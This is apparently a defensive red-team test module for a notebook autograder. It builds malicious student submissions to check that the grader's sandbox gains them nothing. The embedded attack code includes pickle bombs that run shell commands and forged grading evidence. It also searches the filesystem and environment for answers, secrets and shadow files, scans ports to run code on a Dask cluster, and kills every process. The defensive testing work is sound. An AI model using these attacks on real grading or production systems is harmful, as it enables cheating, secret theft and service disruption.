"""The red-team catalogue: attacks on the batch grader, and honest work that must keep full marks.

Each *attack* is a submission (or, for intake tricks, an entry of the submissions folder)
that tries something ``/work/shared/SECURITY.md`` forbids: forged evidence, a poisoned
evidence cache, reading hidden files, the network, killing processes, exhausting memory,
processes, disk or System V IPC, files left for a later submission, patched modules,
huge or endless output, forged notebook metadata and tricks on the intake. Each is built
from the source notebook with the helpers of ``tests/catalogue.py`` (a release with the
solution's, a mutant's or the stubs' answers, plus the attack's code), or written into
the submissions folder as a symlink, a zip or an oddly named file.

An attack must gain nothing (its total is at most its golden total and at most its
base's total in ``tests/golden/mutant_scores.json``), lower no one else's score (the two
*victims*, byte-identical copies of the solution graded after a cache-poisoning attack
that shares their djmodel and music_inference_model programs, keep 25) and leave nothing
behind (files in world-writable folders, System V IPC objects, processes of the
sandboxes' users). Each *honest variant* is another way to write the right answer and
must keep 25 / 25.

Attack code runs in two places: in the notebook's kernel (the answer cell it is put in)
and in the grader's clean room, where each graded function is extracted with only what
it reads (``grader.extract``). ``_everywhere`` puts an attack in an answer cell and makes
the graded functions read its result, so that the extraction carries it into the clean
room's programs too.

Attacks say that something worked by printing a line ``LEAK:<marker> ...`` (in the
kernel) or by raising it as an error (in the clean room, whose output is silenced); the
tag is built at run time, so that it appears in no submission's source and the tests can
look for it in every file of the course. The names of the files, IPC keys and processes
an attack creates carry the same batch marker, so that leftovers can be found and
removed.

``run_redteam`` grades the whole catalogue in one batch through ``python -m grader
autograde`` and records what the tests check; ``cleanup`` removes what a successful
attack left on this machine.
"""

from __future__ import annotations

import ast
import base64
import contextlib
import copy
import ctypes
import json
import os
import shutil
import signal
import stat
import subprocess
import tempfile
import time
import uuid
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat
from catalogue import (
    GOLDEN,
    NOTEBOOK,
    ROOT,
    SOURCE,
    CatalogueError,
    _grade_id,
    _grader,
    _grader_process,
    _insert_after,
    build_mutant,
    mutants,
    strip_markers,
)
from nbformat.notebooknode import NotebookNode

REDTEAM_GOLDEN = Path(__file__).resolve().parent / "golden" / "redteam_scores.json"
"""Expected total and status of every item (rewritten with ``--update-golden``)."""

TIMEOUT_S = 120
"""The batch's ``--timeout``: long enough for honest work on a loaded 2-core machine."""

WORKERS = 2
"""The batch's ``--workers``."""

UID_BASE = 61000
"""First user id of the sandboxes (``grader.sandbox.scratch.UID_BASE``)."""

FULL_MARKS = 25.0

ATTACK, HONEST, VICTIM = "attack", "honest", "victim"

GRADED, NEEDS_REVIEW, TIMEOUT, CRASHED, MALFORMED = (
    "graded",
    "needs review",
    "timeout",
    "crashed",
    "malformed",
)

CLASSES: tuple[str, ...] = (
    "forged evidence",
    "cache poisoning",
    "hidden files",
    "network",
    "processes",
    "exhaustion",
    "leftovers",
    "patching",
    "output",
    "notebook metadata",
    "intake",
)
"""The attack classes of SECURITY.md and issue 12; every one has at least one attack."""

GRADED_FUNCTIONS = ("djmodel", "music_inference_model", "predict_and_sample")

SHARED_FOLDERS: tuple[str, ...] = ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/var/lock")
"""World-writable folders of this machine where a leftover would outlive a sandbox."""

VICTIMS = ("zz_victim_1", "zz_victim_2")
"""Graded last: the solution, twice, byte-identical."""

SKIP_ENV = "REDTEAM_SKIP"
"""Comma-separated item names left out of the batch (while developing against a grader
that stops a whole batch on one of them)."""


@dataclass
class Context:
    """What builders need: the notebooks, this batch's markers and an outside folder.

    Attributes:
        source: the source notebook (solutions).
        release: the release notebook (stubs).
        built: every mutant's submission, by name.
        marker: this batch's attack marker (in leftover names, IPC keys, the leak tag).
        secret: a string held only by the secret notebook outside the submissions.
        outside: a folder next to the submissions holding the secret notebook.
        secret_notebook: a solution notebook with ``secret`` in it, outside the submissions.
        secret_folder: a folder outside holding a copy of the secret notebook.
    """

    source: NotebookNode
    release: NotebookNode
    built: dict[str, NotebookNode]
    marker: str
    secret: str
    outside: Path
    secret_notebook: Path
    secret_folder: Path

    def fill(self, code: str) -> str:
        """Attack code with this batch's marker and the planted payload filled in."""
        return code.replace("__MARKER__", self.marker).replace("__PAYLOAD__", self.payload())

    def payload(self) -> str:
        """The solution's three functions as source text, base64 (what the planter plants)."""
        parts = [
            strip_markers(cell.source)
            for cell in self.source.cells
            if _grade_id(cell) in GRADED_FUNCTIONS
        ]
        return base64.b64encode("\n\n".join(parts).encode()).decode()

    def leak_tag(self) -> str:
        """What an attack prints or raises when it got something it must not get."""
        return "LE" + "AK:" + self.marker


Maker = Callable[[Context, Path], None]
"""Writes one item's entry into the submissions folder."""


@dataclass(frozen=True)
class Item:
    """One submission (or submissions-folder entry) of the red-team batch.

    Attributes:
        name: the student id (for intake tricks: the golden key; see ``token``).
        group: ``attack``, ``honest`` or ``victim``.
        kind: the attack class (one of ``CLASSES``; ``honest`` for the others).
        description: what it tries, in one line.
        make: writes its entry into the submissions folder.
        base: the mutant it is built on: its total in the mutant golden table bounds the
            item's total (an attack gains nothing over the same work without it).
        expected_total: the total it must not exceed (attacks) or reach (honest work).
        expected_status: the status the grader should give it.
        token: for intake tricks, a string the grader's row for the entry contains (its
            id or its reason), since an odd name has no id of its own.
    """

    name: str
    group: str
    kind: str
    description: str
    make: Maker
    base: str = "untouched"
    expected_total: float = 0.0
    expected_status: str = GRADED
    token: str | None = None

    @property
    def intake(self) -> bool:
        """Whether the item is an intake trick (never graded; a malformed row)."""
        return self.token is not None


# --- building submissions ------------------------------------------------------------


Transform = Callable[[NotebookNode, Context], NotebookNode]


def _notebook(base: str, *transforms: Transform) -> Callable[[str], Maker]:
    """A maker that writes ``base``'s submission, transformed, as ``<name>/<notebook>``."""

    def bind(name: str) -> Maker:
        def make(ctx: Context, folder: Path) -> None:
            notebook = copy.deepcopy(ctx.built[base])
            for transform in transforms:
                notebook = transform(notebook, ctx)
            (folder / name).mkdir(parents=True)
            nbformat.write(notebook, folder / name / NOTEBOOK)

        return make

    return bind


def _cell(notebook: NotebookNode, grade_id: str) -> NotebookNode:
    for cell in notebook.cells:
        if _grade_id(cell) == grade_id:
            return cell
    raise CatalogueError(f"no cell {grade_id!r}")


def _after_docstring(source: str, function: str, lines: str) -> str:
    """``source`` with ``lines`` (indented by four spaces) first in ``function``'s body."""
    tree = ast.parse(source)
    for node in tree.body:
        if isinstance(node, ast.FunctionDef) and node.name == function:
            first = node.body[0]
            is_doc = isinstance(first, ast.Expr) and isinstance(first.value, ast.Constant)
            line = first.end_lineno if is_doc else node.body[0].lineno - 1
            text = source.split("\n")
            body = ["    " + row if row else row for row in lines.rstrip("\n").split("\n")]
            return "\n".join(text[:line] + body + text[line:])
    raise CatalogueError(f"no function {function!r} in the cell")


def _prepend(grade_id: str, code: str) -> Transform:
    """Put ``code`` (filled in) at the top of the answer cell ``grade_id``."""

    def transform(notebook: NotebookNode, ctx: Context) -> NotebookNode:
        cell = _cell(notebook, grade_id)
        cell.source = ctx.fill(code) + "\n\n" + cell.source
        return notebook

    return transform


def _in_body(function: str, code: str) -> Transform:
    """Put ``code`` (filled in) first in ``function``'s body, after its docstring."""

    def transform(notebook: NotebookNode, ctx: Context) -> NotebookNode:
        cell = _cell(notebook, function)
        cell.source = _after_docstring(cell.source, function, ctx.fill(code))
        return notebook

    return transform


def _replace(grade_id: str, code: str) -> Transform:
    """Replace the answer cell ``grade_id`` by ``code`` (filled in)."""

    def transform(notebook: NotebookNode, ctx: Context) -> NotebookNode:
        _cell(notebook, grade_id).source = ctx.fill(code)
        return notebook

    return transform


def _new_cell(after: str, code: str) -> Transform:
    """A learner's own code cell right after the cell ``after``."""

    def transform(notebook: NotebookNode, ctx: Context) -> NotebookNode:
        return _insert_after(notebook, after, ctx.fill(code))

    return transform


def _new_cell_before(before: str, code: str) -> Transform:
    """A learner's own code cell right before the cell ``before``."""

    def transform(notebook: NotebookNode, ctx: Context) -> NotebookNode:
        changed = copy.deepcopy(notebook)
        for index, cell in enumerate(changed.cells):
            if _grade_id(cell) == before:
                changed.cells.insert(index, nbformat.v4.new_code_cell(ctx.fill(code)))
                return changed
        raise CatalogueError(f"no cell {before!r}")

    return transform


RUN_ATTACK = "_RT = _rt_attack()\n"

RAISE_LEAKS = """\
if _RT is not None or _RT_LEAKS:
    raise RuntimeError(" | ".join(_RT_LEAKS)[:280])
"""
"""First lines of a graded function that carries an attack: the attack's result is read
(so the extraction takes it into the function's program) and what it got is raised."""


def _everywhere(code: str, functions: tuple[str, ...] = ("djmodel",)) -> tuple[Transform, ...]:
    """Run ``code``'s ``_rt_attack()`` in the kernel and in the programs of ``functions``.

    The prelude and the attack go on top of the djmodel answer cell, ``_RT =
    _rt_attack()`` after them; each function in ``functions`` reads ``_RT`` (and raises
    what the attack leaked) before its own code.
    """
    prepend = _prepend("djmodel", PRELUDE + "\n\n" + code + "\n\n_RT = _rt_attack()\n")
    return (prepend, *(_in_body(f, RAISE_LEAKS) for f in functions))


def _delegating(code: str) -> tuple[Transform, ...]:
    """Answer cells whose functions call what ``code``'s ``_rt_attack()`` found.

    ``_rt_attack`` returns a namespace; a function found there is called in place of the
    learner's own (for attacks that look for someone else's answers).
    """
    top = PRELUDE + "\n\n" + NAMESPACE + "\n\n" + code + "\n\n_RT_NS = _rt_attack()\n"
    return (
        _replace("djmodel", top + "\n\n" + DELEGATE_DJMODEL),
        _replace("music_inference_model", DELEGATE_INFERENCE),
        _replace("predict_and_sample", DELEGATE_SAMPLE),
    )


# --- attack code ---------------------------------------------------------------------

PRELUDE = '''\
import os as _rt_os
import sys as _rt_sys
from pathlib import Path as _RtPath

_RT_MARKER = "__MARKER__"
_RT_LEAKS = []


def _rt_leak(what, data=""):
    """Record and print that something the sandbox must prevent worked."""
    line = "LE" + "AK:" + _RT_MARKER + " " + str(what) + " " + repr(data)[:200]
    _RT_LEAKS.append(line)
    for stream in (_rt_sys.stdout, _rt_sys.__stderr__):
        try:
            print(line, file=stream, flush=True)
        except Exception:
            pass


def _rt_in_kernel():
    """Whether this runs in the notebook's kernel (else in the grader's clean room)."""
    try:
        import IPython

        return IPython.get_ipython() is not None
    except Exception:
        return False


def _rt_places():
    """The working folder, its parents, HOME and TMPDIR: where a grader keeps its files."""
    found = []
    cwd = _RtPath.cwd()
    home = _RtPath(_rt_os.environ.get("HOME", "/"))
    tmp = _RtPath(_rt_os.environ.get("TMPDIR", "/tmp"))
    for place in (cwd, cwd.parent, cwd.parent.parent, home, tmp, home.parent):
        try:
            if place.is_dir() and place not in found and str(place) != "/":
                found.append(place)
        except OSError:
            pass
    return found
'''

NAMESPACE = '''\
def _rt_namespace():
    """The notebook's names an answer needs, to run someone else's answer with."""
    return {"keras": keras, "np": np, "ops": ops, "Input": Input, "Model": Model, "LSTM": LSTM,
            "Dense": Dense, "Reshape": Reshape, "RepeatVector": RepeatVector,
            "x_initializer": None, "a_initializer": None, "c_initializer": None}


def _rt_use(text, namespace):
    """Define the graded functions found in ``text`` (a notebook's JSON, or Python)."""
    import json

    try:
        cells = [c for c in json.loads(text)["cells"] if c.get("cell_type") == "code"]
        chunks = [c["source"] if isinstance(c["source"], str) else "".join(c["source"])
                  for c in cells]
    except Exception:
        chunks = [text]
    names = ("def djmodel", "def music_inference_model", "def predict_and_sample")
    for chunk in chunks:
        if any(name in chunk for name in names) and "Exercise not done" not in chunk:
            try:
                exec(chunk, namespace)
            except Exception:
                pass
    return namespace
'''

DELEGATE_DJMODEL = '''\
def djmodel(Tx, LSTM_cell, densor, reshaper):
    """Whatever djmodel the attack found."""
    found = _RT_NS.get("djmodel")
    if found is None:
        raise NotImplementedError("nothing found")
    return found(Tx, LSTM_cell, densor, reshaper)
'''

DELEGATE_INFERENCE = '''\
def music_inference_model(LSTM_cell, densor, Ty=100):
    """Whatever music_inference_model the attack found."""
    found = _RT_NS.get("music_inference_model")
    if found is None:
        raise NotImplementedError("nothing found")
    return found(LSTM_cell, densor, Ty=Ty)
'''

DELEGATE_SAMPLE = '''\
def predict_and_sample(inference_model, x_initializer=x_initializer,
                       a_initializer=a_initializer, c_initializer=c_initializer):
    """Whatever predict_and_sample the attack found."""
    found = _RT_NS.get("predict_and_sample")
    if found is None:
        raise NotImplementedError("nothing found")
    return found(inference_model, x_initializer, a_initializer, c_initializer)
'''

FOOL_KERNEL = '''\
def _rt_fool_kernel():
    """In the kernel: grader.hidden replaced by a module that gives every grade cell full points."""
    import sys
    import types

    full = {"test_djmodel_shapes": 2.0, "test_djmodel_sharing": 3.0,
            "test_djmodel_equivalence": 5.0, "test_inference_shapes": 2.0,
            "test_inference_sharing": 3.0, "test_inference_greedy": 5.0,
            "test_sample_shapes": 2.0, "test_sample_initializers": 3.0}
    fake = types.ModuleType("grader.hidden")
    fake.grade = lambda grade_id, function=None: full.get(grade_id, 0.0)
    sys.modules["grader.hidden"] = fake
    try:
        import grader

        grader.hidden = fake
    except Exception:
        pass


_RT_OUTPUTS = (["evidence.json", "late-evidence.json", "artefacts.json", "artifacts.json",
                "result.json", "results.json", "out.json", "output.json", "verdict.json",
                "scores.json", "judged.json", "signed.json"]
               + ["evidence-%d.json" % i for i in range(1, 9)]
               + ["artefacts-%d.json" % i for i in range(6)]
               + ["late-evidence-%d.json" % i for i in range(1, 4)])
'''

FORGED_EVIDENCE = '''\
def _rt_forged_evidence():
    """Full-credit evidence in the form the grader's probes wrote (from grader.reference)."""
    try:
        import numpy as np
        from grader import reference
    except Exception:
        return {}

    def model(inputs, n_values, steps, m):
        return {"is_model": True, "inputs": inputs, "outputs": [[None, n_values]] * steps,
                "call": {"shapes": [[m, n_values]] * steps}}

    def sample(variant):
        case = reference.SAMPLING
        indices = case.reference_indices(variant)
        return {"results": np.eye(case.sizes.n_values)[indices].tolist(),
                "results_shape": [case.Ty, case.sizes.n_values],
                "indices": indices.reshape(-1, 1).astype(float).tolist(),
                "indices_shape": [case.Ty, 1], "indices_integral": True}

    try:
        c = reference.DJ_SHAPES
        nv, na = c.sizes.n_values, c.sizes.n_a
        shapes = [[None, c.Tx, nv], [None, na], [None, na]]
        out = {"test_djmodel_shapes": model(shapes, nv, c.Tx, c.m)}
        for grade_id, c in (("test_djmodel_sharing", reference.DJ_SHARING),
                            ("test_inference_sharing", reference.INF_SHARING)):
            out[grade_id] = {"is_model": True, "lstm_used": True, "dense_used": True,
                             "reshaper_used": True, "count_params": c.sizes.parameter_count}
        out["test_djmodel_equivalence"] = {"cases": [
            {k: {"outputs": c.reference(k).tolist()} for k in ("random", "constant")}
            for c in reference.DJ_EQUIVALENCE]}
        out["test_inference_shapes"] = {"cases": [
            model([[None, 1, c.sizes.n_values], [None, c.sizes.n_a], [None, c.sizes.n_a]],
                  c.sizes.n_values, c.Ty, c.m) for c in reference.INF_SHAPES]}
        out["test_inference_greedy"] = {"cases": [{"outputs": c.reference().tolist()}
                                                  for c in reference.INF_GREEDY]}
        out["test_sample_shapes"] = sample("zeros")
        out["test_sample_initializers"] = {v: sample(v) for v in ("base", "x", "a", "c")}
        return out
    except Exception:
        return {}
'''

FORGE_FILES = (
    FOOL_KERNEL
    + "\n\n"
    + FORGED_EVIDENCE
    + '''

def _rt_attack():
    """Kernel: full points from a fake grader.hidden. Clean room: forged result files, then exit."""
    import json

    if _rt_in_kernel():
        _rt_fool_kernel()
        return None
    evidence = _rt_forged_evidence()
    claims = {"evidence": evidence, "current": {}, "notes": [], "fresh": {},
              "function": "djmodel", "artefacts": {"model": {"config": "{}", "weights": []}},
              "score": 25.0, "points": 25.0, "passed": True, "signature": "0" * 64}
    for place in _rt_places():
        names = set(_RT_OUTPUTS)
        try:
            names.update(p.name for p in place.glob("*.json"))
        except OSError:
            pass
        for name in sorted(names):
            try:
                (place / name).write_text(json.dumps(claims))
            except OSError:
                pass
    _rt_os._exit(0)
'''
)

FORGE_DIRS = (
    FOOL_KERNEL
    + '''

def _rt_attack():
    """Clean room: every output path taken first (folder, FIFO, symlinks), the folder read-only."""
    if _rt_in_kernel():
        _rt_fool_kernel()
        return None
    for place in _rt_places()[:2]:
        for number, name in enumerate(_RT_OUTPUTS):
            path = place / name
            try:
                if path.is_symlink() or path.is_file():
                    path.unlink()
                kind = number % 4
                if kind == 0:
                    path.mkdir()
                elif kind == 1:
                    path.symlink_to("/etc/shadow")
                elif kind == 2:
                    _rt_os.mkfifo(path)
                else:
                    path.symlink_to("/dev/zero")
            except OSError:
                pass
        try:
            place.chmod(0o555)
        except OSError:
            pass
    return None
'''
)

FAKE_MODEL = '''\
import base64 as _rt_base64
import json as _rt_json
import marshal as _rt_marshal


class _RtPickleBomb:
    """Runs a command wherever it is unpickled."""

    def __reduce__(self):
        command = "touch /tmp/__MARKER__-pickle-$(id -u) /var/tmp/__MARKER__-pickle"
        return (_rt_os.system, (command,))


def _rt_side_effect(x):
    open("/tmp/__MARKER__-lambda", "w").close()
    open("/var/tmp/__MARKER__-lambda", "w").close()
    return x


def _rt_claimed_config(model, steps):
    """A hand-written config: the right inputs and outputs, and layers that run code when loaded."""
    n_values, n_a = model.rt_sizes
    X = Input(shape=(steps, n_values))
    a0 = Input(shape=(n_a,), name="a0")
    c0 = Input(shape=(n_a,), name="c0")
    dense = Dense(n_values, activation="softmax")
    claimed = Model(inputs=[X, a0, c0], outputs=[dense(a0) for _ in range(steps)])
    config = _rt_json.loads(Model.to_json(claimed))
    code = _rt_base64.b64encode(_rt_marshal.dumps(_rt_side_effect.__code__)).decode()
    config["config"]["layers"] += [
        {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
         "name": "rt_lambda",
         "config": {"name": "rt_lambda", "function": {"class_name": "__lambda__",
                    "config": {"code": code, "defaults": None, "closure": None}}},
         "inbound_nodes": []},
        {"module": "os", "class_name": "system", "registered_name": "system", "name": "rt_system",
         "config": "touch /tmp/__MARKER__-os-system", "inbound_nodes": []},
        {"module": "builtins", "class_name": "exec", "registered_name": "exec", "name": "rt_exec",
         "config": "open('/tmp/__MARKER__-exec', 'w')", "inbound_nodes": []},
    ]
    return config


class _RtFakeModel(Model):
    """A model (of the wrong inputs and outputs) that describes itself as another one."""

    rt_sizes = (1, 1)
    rt_steps = 1

    def to_json(self, **kwargs):
        return _rt_json.dumps(_rt_claimed_config(self, self.rt_steps))

    def get_weights(self):
        import numpy

        return [numpy.array([_RtPickleBomb()], dtype=object)]

    def count_params(self):
        return 0

    def __reduce__(self):
        return _RtPickleBomb().__reduce__()


def _rt_fake(densor, n_values, n_a, steps):
    a0 = Input(shape=(n_a,))
    model = _RtFakeModel(inputs=a0, outputs=Dense(1)(a0))  # none of the given layers
    model.rt_sizes = (n_values, n_a)
    model.rt_steps = steps
    return model


def djmodel(Tx, LSTM_cell, densor, reshaper):
    """A fake model whose to_json and get_weights lie."""
    return _rt_fake(densor, densor.units, LSTM_cell.units, Tx)
'''

FAKE_INFERENCE = '''\
def music_inference_model(LSTM_cell, densor, Ty=100):
    """A fake model whose to_json and get_weights lie."""
    return _rt_fake(densor, densor.units, LSTM_cell.units, Ty)
'''

FAKE_SAMPLE = '''\
def predict_and_sample(inference_model, x_initializer=x_initializer,
                       a_initializer=a_initializer, c_initializer=c_initializer):
    """Outputs that run code wherever they are unpickled."""
    import numpy

    bomb = numpy.array([_RtPickleBomb()], dtype=object)
    return bomb, bomb
'''

LAMBDA_DJMODEL = '''\
from keras.layers import Lambda as _RtLambda


def djmodel(Tx, LSTM_cell, densor, reshaper):
    """The unrolled LSTM computed by Python code inside a Lambda layer."""
    n_values = densor.units
    n_a = LSTM_cell.units
    X = Input(shape=(Tx, n_values))
    a0 = Input(shape=(n_a,), name="a0")
    c0 = Input(shape=(n_a,), name="c0")

    def unrolled(tensors, lstm=LSTM_cell, dense=densor, steps=Tx, built_in=_rt_os.getpid()):
        if _rt_os.getpid() != built_in:  # run where it was not built: in the judge
            open("/tmp/__MARKER__-lambda-ran", "w").close()
        x_all, a, c = tensors
        outs = []
        for t in range(steps):
            _, a, c = lstm(ops.expand_dims(x_all[:, t, :], 1), initial_state=[a, c])
            outs.append(dense(a))
        return ops.stack(outs, axis=0)

    stacked = _RtLambda(unrolled)([X, a0, c0])
    return Model(inputs=[X, a0, c0], outputs=[stacked[t] for t in range(Tx)])
'''

LAMBDA_INFERENCE = '''\
def music_inference_model(LSTM_cell, densor, Ty=100):
    """The greedy loop computed by Python code inside a Lambda layer."""
    n_values = densor.units
    n_a = LSTM_cell.units
    x0 = Input(shape=(1, n_values))
    a0 = Input(shape=(n_a,), name="a0")
    c0 = Input(shape=(n_a,), name="c0")

    def greedy(tensors, lstm=LSTM_cell, dense=densor, steps=Ty, n_values=n_values):
        x, a, c = tensors
        outs = []
        for _ in range(steps):
            _, a, c = lstm(x, initial_state=[a, c])
            out = dense(a)
            outs.append(out)
            x = ops.expand_dims(ops.one_hot(ops.argmax(out, axis=-1), n_values), 1)
        return ops.stack(outs, axis=0)

    stacked = _RtLambda(greedy)([x0, a0, c0])
    return Model(inputs=[x0, a0, c0], outputs=[stacked[t] for t in range(Ty)])
'''

SPOIL = '''\
def _rt_negate(value):
    """The same JSON data with every float negated: still well formed, now wrong."""
    if isinstance(value, float):
        return -value if value else 1.0
    if isinstance(value, list):
        return [_rt_negate(v) for v in value]
    if isinstance(value, dict):
        return {k: _rt_negate(v) for k, v in value.items()}
    return value


def _rt_spoil_files(done):
    """Negate the numbers of every JSON file around that has not been spoiled yet."""
    import json

    for place in _rt_places()[:3]:
        try:
            paths = list(place.glob("*.json")) + list(place.glob("*/*.json"))
        except OSError:
            continue
        for path in paths:
            try:
                mark = (str(path), path.stat().st_mtime_ns)
                if mark in done or "job" in path.name:
                    continue
                data = json.loads(path.read_text())
                path.write_text(json.dumps(_rt_negate(data)))
                done.add((str(path), path.stat().st_mtime_ns))
            except (OSError, ValueError):
                pass


def _rt_spoil_memory():
    """Evidence of the other functions in this process replaced; every layer's weights negated."""
    import gc
    import sys

    seen = set()

    def spoil(obj, depth):
        if depth > 5 or id(obj) in seen:
            return
        seen.add(id(obj))
        if isinstance(obj, dict):
            for key in list(obj):
                if isinstance(key, str) and key.startswith(("test_djmodel", "test_inference")):
                    obj[key] = {"error": "spoiled by another function"}
                else:
                    spoil(obj[key], depth + 1)
        elif isinstance(obj, list):
            for item in obj:
                spoil(item, depth + 1)

    frame = sys._getframe(1)
    while frame is not None:
        if frame.f_globals is not frame.f_locals:
            spoil(dict(frame.f_locals), 0)
            for value in frame.f_locals.values():
                spoil(value, 1)
        frame = frame.f_back
    for obj in gc.get_objects():
        try:
            if isinstance(obj, keras.layers.Layer) and obj.weights:
                obj.set_weights([-w for w in obj.get_weights()])
        except Exception:
            pass


def _rt_attack():
    """Clean room only: spoil what the other (cached) functions made, now and for a minute."""
    import time

    if _rt_in_kernel():
        return None
    _rt_spoil_memory()
    done = set()
    _rt_spoil_files(done)
    pid = _rt_os.fork()
    if pid == 0:
        try:
            _rt_os.setsid()
            if _rt_os.fork() == 0:
                end = time.time() + 60
                while time.time() < end:
                    _rt_spoil_files(done)
                    time.sleep(0.2)
        finally:
            _rt_os._exit(0)
    _rt_os.waitpid(pid, 0)
    return None
'''

POISON_FOLDER = '''\
def _rt_attack():
    """Look for the grader's shared evidence folders and write over every file in them."""
    import json
    import time

    poison = {g: {"error": "poisoned"} for g in (
        "test_djmodel_shapes", "test_djmodel_sharing", "test_djmodel_equivalence",
        "test_inference_shapes", "test_inference_sharing", "test_inference_greedy",
        "test_sample_shapes", "test_sample_initializers")}
    candidates = []
    for pattern in ("jazz-batch-*/evidence/*", "*/jazz-batch-*/evidence/*", "*/evidence/*"):
        for root in (_RtPath("/tmp"), _RtPath("/var/tmp"), _RtPath("/dev/shm")):
            try:
                candidates += [p for p in root.glob(pattern) if p.is_dir()]
            except OSError:
                pass
    for place in _rt_places():
        for name in ("evidence", "cache", ".batch", "shared"):
            if (place / name).is_dir():
                candidates.append(place / name)
    end = time.time() + 3
    while time.time() < end:
        for folder in candidates:
            try:
                for path in folder.glob("*.json"):
                    path.write_text(json.dumps(poison))
                    _rt_leak("cache file overwritten", str(path))
            except OSError:
                pass
        time.sleep(0.5)
    return None
'''

READ_HIDDEN = '''\
def _rt_attack():
    """Search the file system for answers, hidden tests, the gradebook and secrets; use answers."""
    import sys
    import time

    namespace = _rt_namespace()
    deadline = time.monotonic() + 20
    skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/boot", "/snap",
            "/var/lib", "/var/cache", "/var/log", "/etc/ssl", sys.prefix, sys.base_prefix,
            _rt_os.path.realpath(sys.prefix), _rt_os.path.realpath(sys.base_prefix)}
    wanted = ("gradebook.db", "reference.py", "judges.py", "probes.py", "report.json", "grades.csv",
              "state.json", "shadow", "nbgrader_config.py")
    try:
        import grader

        repo = _RtPath(grader.__file__).resolve().parent.parent
        stack = ["/", str(repo), str(repo / "course"), str(repo / "solutions")]
    except Exception:
        stack = ["/"]
    seen = set()
    while stack and time.monotonic() < deadline:
        folder = stack.pop()
        if folder in seen:
            continue
        seen.add(folder)
        try:
            entries = list(_rt_os.scandir(folder))
        except OSError:
            continue
        for entry in entries:
            try:
                if entry.is_symlink():
                    continue
                if entry.is_dir():
                    dull = "site-packages" in entry.path or entry.name == ".git"
                    if entry.path not in skip and not dull:
                        stack.append(entry.path)
                    continue
                if not (entry.name in wanted or entry.name.endswith(".ipynb")):
                    continue
                with open(entry.path, "rb") as handle:
                    data = handle.read(5_000_000)
            except OSError:
                continue
            text = data.decode("utf-8", "replace")
            if entry.name.endswith(".ipynb"):
                if "initial_state=[a, c]" not in text or "Exercise not done" in text:
                    continue  # no answers in it (the release, or a learner's stubs)
                at = text.find("SECRET")
                at = max(at, 0)
                _rt_leak("a notebook with answers", entry.path + " " + text[at:at + 60])
                if "djmodel" not in namespace:
                    _rt_use(text, namespace)
            else:
                _rt_leak("read", entry.path + " " + text[:80])
    return namespace
'''

IMPORT_INTERNALS = '''\
def _rt_attack():
    """Import the grader's references, judges and probes; look for secrets in the environment."""
    import importlib
    import inspect

    for name in ("grader.reference", "grader.judges", "grader.probes"):
        try:
            module = importlib.import_module(name)
        except Exception:
            continue
        try:
            source = inspect.getsource(module)[:120]
        except Exception:
            source = ""
        _rt_leak("imported " + name, source)
    for key in _rt_os.environ:
        upper = key.upper()
        seed = "SEED" in upper and upper != "PYTHONHASHSEED"
        if seed or any(word in upper for word in ("SECRET", "TOKEN", "DASK", "_KEY", "SIGN")):
            _rt_leak("environment", key)
    return None
'''

NETWORK = '''\
def _rt_dask_payload():
    open("/tmp/__MARKER__-dask-reached", "w").close()
    return "reached"


def _rt_own_ports():
    """Ports that processes in sight (this sandbox's own) listen on."""
    inodes = set()
    for pid in _rt_os.listdir("/proc"):
        try:
            for fd in _rt_os.listdir("/proc/%s/fd" % pid):
                target = _rt_os.readlink("/proc/%s/fd/%s" % (pid, fd))
                if target.startswith("socket:["):
                    inodes.add(target[8:-1])
        except OSError:
            pass
    ports = {}
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            for line in open(table).read().splitlines()[1:]:
                parts = line.split()
                if len(parts) > 9 and parts[3] == "0A":
                    ports[int(parts[1].rsplit(":", 1)[1], 16)] = parts[9] in inodes
        except (OSError, ValueError):
            pass
    return {port for port, own in ports.items() if own}, set(ports)


def _rt_try_dask(port):
    try:
        from distributed import Client

        client = Client("tcp://127.0.0.1:%d" % port, timeout=3)
        _rt_leak("a Dask cluster answered", port)
        client.run(_rt_dask_payload)
        client.close()
    except Exception:
        pass


def _rt_attack():
    """Loopback ports (a Dask scheduler or worker, another kernel), DNS and outside hosts."""
    import socket
    import threading
    import time

    own, listening = _rt_own_ports()
    open_ports = []
    deadline = time.monotonic() + 15
    for port in [*sorted(listening), 8786, 8787, *range(1, 65536)]:
        if time.monotonic() > deadline or len(open_ports) > 40:
            break
        if port in own or port in open_ports:
            continue
        probe = socket.socket()
        probe.settimeout(0.2)
        try:
            # (a connection to one's own ephemeral port is the socket talking to itself)
            if probe.connect_ex(("127.0.0.1", port)) == 0 and probe.getsockname()[1] != port:
                open_ports.append(port)
        except OSError:
            pass
        finally:
            probe.close()
    if open_ports:
        _rt_leak("loopback ports of other processes answer", open_ports[:20])
    for port in open_ports[:5]:
        worker = threading.Thread(target=_rt_try_dask, args=(port,), daemon=True)
        worker.start()
        worker.join(8)

    def resolve():
        try:
            socket.getaddrinfo("example.com", 80)
            _rt_leak("DNS answered", "example.com")
        except Exception:
            pass

    worker = threading.Thread(target=resolve, daemon=True)
    worker.start()
    worker.join(6)
    for host, port in (("1.1.1.1", 53), ("8.8.8.8", 53), ("93.184.215.14", 80)):
        probe = socket.socket()
        probe.settimeout(2)
        try:
            if probe.connect_ex((host, port)) == 0:
                _rt_leak("an outside host answered", host)
        except OSError:
            pass
        finally:
            probe.close()
    query = bytes.fromhex("abcd01000001000000000000076578616d706c6503636f6d0000010001")
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.settimeout(2)
    try:
        udp.sendto(query, ("8.8.8.8", 53))
        udp.recvfrom(512)
        _rt_leak("a DNS server answered over UDP", "8.8.8.8")
    except OSError:
        pass
    finally:
        udp.close()
    return None
'''

KILL_ALL = '''\
def _rt_attack():
    """SIGKILL to the parent, pid 1, every process in sight, the process group and -1."""
    import signal

    me = _rt_os.getpid()
    for pid in (_rt_os.getppid(), 1):
        try:
            _rt_os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    for entry in _rt_os.listdir("/proc"):
        if entry.isdigit() and int(entry) != me:
            try:
                _rt_os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
    for kill in (lambda: _rt_os.killpg(0, signal.SIGKILL), lambda: _rt_os.kill(-1, signal.SIGKILL)):
        try:
            kill()
        except OSError:
            pass
